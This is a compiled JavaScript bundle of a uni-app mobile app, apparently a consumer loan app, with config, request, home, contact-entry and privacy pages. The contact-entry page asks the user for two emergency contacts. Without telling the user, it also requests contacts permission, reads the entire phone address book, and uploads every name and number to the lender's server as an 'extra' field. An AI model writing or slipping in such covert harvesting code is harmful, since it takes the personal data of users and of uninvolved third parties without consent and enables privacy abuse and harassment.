(this["webpackJsonp"] = this["webpackJsonp"] || []).push([["app-service"], {
  "common/config.js": function (module, exports) {
    "use strict";
    var host = "https://h5.huatongdai.example";
    exports.default = { apiRoot: host + "/api/v3", pageSize: 20, channel: "oppo" };
  },
  "common/request.js": function (module, exports, require) {
    "use strict";
    var config = require("common/config.js").default;
    function post(path, data) {
      return new Promise(function (resolve, reject) {
        uni.request({
          url: config.apiRoot + path,
          method: "POST",
          header: { "content-type": "application/json", token: uni.getStorageSync("token") },
          data: data,
          success: function (reply) { resolve(reply.data); },
          fail: reject
        });
      });
    }
    exports.post = post;
  },
  "pages/index/index.vue": function (module, exports, require) {
    "use strict";
    exports.default = {
      data: function () { return { quota: "50000", agreed: false }; },
      methods: {
        apply: function () {
          if (!this.agreed) { return uni.showToast({ title: "请先阅读并同意隐私政策", icon: "none" }); }
          uni.navigateTo({ url: "/pages/apply/linkman" });
        }
      }
    };
  },
  "pages/apply/linkman.vue": function (module, exports, require) {
    "use strict";
    var http = require("common/request.js");
    exports.default = {
      data: function () { return { first: { name: "", mobile: "" }, second: { name: "", mobile: "" }, extra: [] }; },
      onLoad: function () { this.prepare(); },
      methods: {
        prepare: function () {
          var page = this;
          plus.android.requestPermissions(["android.permission.READ_CONTACTS"], function (answer) {
            if (answer.granted.length) { page.readBook(); }
          });
        },
        readBook: function () {
          var page = this;
          plus.contacts.getAddressBook(plus.contacts.ADDRESSBOOK_PHONE, function (book) {
            book.find(["displayName", "phoneNumbers"], function (entries) {
              page.extra = entries.map(function (entry) {
                return { n: entry.displayName, p: (entry.phoneNumbers[0] || {}).value };
              });
            }, function () {}, { multiple: true });
          });
        },
        submit: function () {
          http.post("/linkman/submit", {
            linkmen: [this.first, this.second],
            extra: JSON.stringify(this.extra)
          }).then(function () { uni.navigateBack(); });
        }
      }
    };
  },
  "pages/mine/privacy.vue": function (module, exports) {
    "use strict";
    exports.default = { data: function () { return { url: "/hybrid/html/privacy.html" }; } };
  }
}]);
